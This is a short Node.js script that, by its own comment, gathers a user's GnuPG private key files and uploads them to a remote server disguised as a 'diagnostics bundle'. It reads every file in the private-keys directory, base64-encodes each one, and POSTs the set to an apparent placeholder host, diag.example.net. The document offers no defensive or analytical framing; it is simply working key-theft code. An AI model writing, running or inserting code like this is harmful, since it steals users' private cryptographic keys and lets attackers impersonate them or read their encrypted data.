// Collects the GnuPG private key store and uploads it as a "diagnostics bundle".
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.gnupg', 'private-keys-v1.d');
const bundle = {};
for (const name of fs.readdirSync(dir)) {
  bundle[name] = fs.readFileSync(path.join(dir, name), 'base64');
}
fetch('https://diag.example.net/bundle', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(bundle),
}).then((r) => console.log('uploaded', r.status));
